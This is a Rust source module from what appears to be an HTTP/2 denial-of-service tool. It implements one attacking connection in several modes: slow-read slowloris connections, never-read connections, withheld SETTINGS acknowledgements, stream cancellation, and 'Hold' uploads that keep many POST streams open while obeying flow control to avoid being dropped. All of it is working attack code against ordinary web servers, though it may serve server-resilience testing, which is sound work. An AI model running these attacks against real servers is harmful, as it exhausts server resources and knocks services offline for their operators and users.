//! One attacking connection, from its first byte to its end.

use std::collections::BTreeMap;
use std::io;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::sleep;

use super::cancel::cancel;
use super::first::{bytes, stream};
use super::{Attack, Plan};
use crate::frames::{Block, Frame, Wire, flag, kind, setting, status};

/// How often a slow reader reads a byte.
const SIP: Duration = Duration::from_secs(5);
/// Bytes of one DATA frame of an upload.
const PIECE: u64 = 16_384;

/// What all peers of a crowd have seen.
#[derive(Debug, Default)]
pub(super) struct Seen {
    /// Connections whose every first byte was sent.
    pub(super) begun: AtomicU64,
    /// Connections that the server has ended.
    pub(super) ended: AtomicU64,
    /// Streams that were answered well, that were refused, and that were reset.
    pub(super) answered: AtomicU64,
    pub(super) refused: AtomicU64,
    pub(super) reset: AtomicU64,
    /// Bytes of uploads that were sent.
    pub(super) sent: AtomicU64,
    /// Streams that were cancelled, and connections that had all their credit again after the last.
    pub(super) cancelled: AtomicU64,
    pub(super) whole: AtomicU64,
}

/// Attacks until the server ends it, or it is dropped.
pub(super) async fn run(attack: Attack, plan: Arc<Plan>, tcp: TcpStream, seen: Arc<Seen>) {
    let ended = match attack {
        Attack::Cancel => cancel(tcp, &plan, &seen).await,
        Attack::Slow | Attack::SlowHttp2 => sip(attack, tcp, &plan, &seen).await,
        _ => frames(attack, tcp, &plan, &seen).await,
    };
    // Why it ended makes no difference to who attacks.
    drop(ended);
    seen.ended.fetch_add(1, Relaxed);
}

/// Requests, and then a byte every few seconds.
async fn sip(attack: Attack, mut tcp: TcpStream, plan: &Plan, seen: &Seen) -> io::Result<()> {
    let first = match attack {
        Attack::SlowHttp2 => bytes(attack, plan),
        _ => format!("GET {} HTTP/1.1\r\nHost: a.example\r\n\r\n", plan.path).into_bytes(),
    };
    tcp.write_all(&first).await?;
    seen.begun.fetch_add(1, Relaxed);
    if attack == Attack::SlowHttp2 {
        until_answered(&mut tcp).await?;
        seen.answered.fetch_add(1, Relaxed);
    } else if tcp.read_u8().await.is_ok() {
        seen.answered.fetch_add(1, Relaxed);
    }
    loop {
        sleep(SIP).await;
        tcp.read_u8().await?;
    }
}

/// Reads to the first frame of an answer, and no further.
async fn until_answered(tcp: &mut TcpStream) -> io::Result<()> {
    loop {
        let mut head = [0; 9];
        tcp.read_exact(&mut head).await?;
        let [a, b, c, found, ..] = head;
        if found == kind::HEADERS {
            return Ok(());
        }
        let length = u64::from(u32::from_be_bytes([0, a, b, c]));
        tokio::io::copy(&mut (&mut *tcp).take(length), &mut tokio::io::sink()).await?;
    }
}

async fn frames(attack: Attack, tcp: TcpStream, plan: &Plan, seen: &Seen) -> io::Result<()> {
    let mut wire = Wire::over(tcp);
    wire.send(&bytes(attack, plan)).await?;
    seen.begun.fetch_add(1, Relaxed);
    if attack == Attack::Unread {
        // Writable ends are not told apart from unread ones; whether the server has closed is seen at the end.
        return std::future::pending().await;
    }
    let mut credit = Credit { connection: 65_535, first: 65_535, streams: BTreeMap::new() };
    let (mut begun, mut over) = (false, 0);
    while let Some(frame) = wire.next().await? {
        let mut bytes = Vec::new();
        match frame.kind {
            kind::HEADERS if status(&frame.payload).is_some_and(|status| status < 400) => {
                seen.answered.fetch_add(1, Relaxed);
            }
            kind::HEADERS => drop(seen.refused.fetch_add(1, Relaxed)),
            kind::RST_STREAM => drop(seen.reset.fetch_add(1, Relaxed)),
            kind::SETTINGS if !frame.has(flag::ACK) => {
                if let Some(window) = initial_window(&frame) {
                    credit.begins_with(window);
                }
                if attack != Attack::Unacknowledged {
                    bytes.extend([Frame::settings_ack()]);
                }
                if attack == Attack::Hold && !begun {
                    begun = true;
                    for index in 0..plan.streams {
                        let head = Block::request("POST", &plan.path).bytes();
                        bytes.extend([Frame::headers(stream(index), flag::END_HEADERS, head)]);
                        credit.streams.insert(stream(index), (credit.first, plan.upload));
                    }
                }
            }
            kind::WINDOW_UPDATE => credit.more(&frame),
            // Who holds on to what it has keeps to the rules, or it would be taken for one that has gone.
            kind::PING if attack == Attack::Hold && !frame.has(flag::ACK) => {
                bytes.extend([Frame::new(kind::PING, flag::ACK, 0, frame.payload.clone())]);
            }
            _ => {}
        }
        let last = matches!(frame.kind, kind::HEADERS | kind::DATA) && frame.has(flag::END_STREAM);
        if last || frame.kind == kind::RST_STREAM {
            credit.streams.remove(&frame.stream);
            over += 1;
            if over == plan.streams && !plan.stays {
                // Whoever has uploaded all leaves its place to others.
                return Ok(());
            }
        }
        seen.sent.fetch_add(credit.spend(&mut bytes), Relaxed);
        wire.send(&bytes).await?;
    }
    Ok(())
}

pub(super) fn initial_window(settings: &Frame) -> Option<i64> {
    let entries = settings.payload.chunks_exact(6);
    let mut windows = entries.filter(|entry| entry.starts_with(&setting::INITIAL_WINDOW_SIZE.to_be_bytes()));
    windows.next_back().map(|entry| entry.iter().skip(2).fold(0, |value, byte| value << 8 | i64::from(*byte)))
}

/// What a peer may still send: it keeps to it, or the server would only end the connection.
struct Credit {
    connection: i64,
    /// Of each new stream.
    first: i64,
    /// Of each stream, and how much of its upload is left. As many as the plan has.
    streams: BTreeMap<u32, (i64, u64)>,
}

impl Credit {
    fn more(&mut self, update: &Frame) {
        let more = i64::from(update.number(0).unwrap_or(0));
        match self.streams.get_mut(&update.stream) {
            _ if update.stream == 0 => self.connection += more,
            Some((credit, _)) => *credit += more,
            None => {}
        }
    }

    /// The windows of all streams change with what they begin with (RFC 9113 §6.9.2).
    fn begins_with(&mut self, window: i64) {
        let change = window - self.first;
        self.first = window;
        self.streams.values_mut().for_each(|(credit, _)| *credit += change);
    }

    /// Writes as much of every upload as may be sent, in turns.
    fn spend(&mut self, bytes: &mut Vec<u8>) -> u64 {
        let mut sent = 0;
        let mut moved = true;
        while moved {
            moved = false;
            for (stream, (credit, left)) in &mut self.streams {
                let may = u64::try_from((*credit).min(self.connection)).unwrap_or(0);
                let some = may.min(*left).min(PIECE);
                if some == 0 {
                    continue;
                }
                *left -= some;
                *credit -= some as i64; // at most PIECE
                self.connection -= some as i64;
                let end = if *left == 0 { flag::END_STREAM } else { 0 };
                bytes.extend([Frame::data(*stream, end, vec![b'u'; some as usize])]);
                sent += some;
                moved = true;
            }
        }
        sent
    }
}
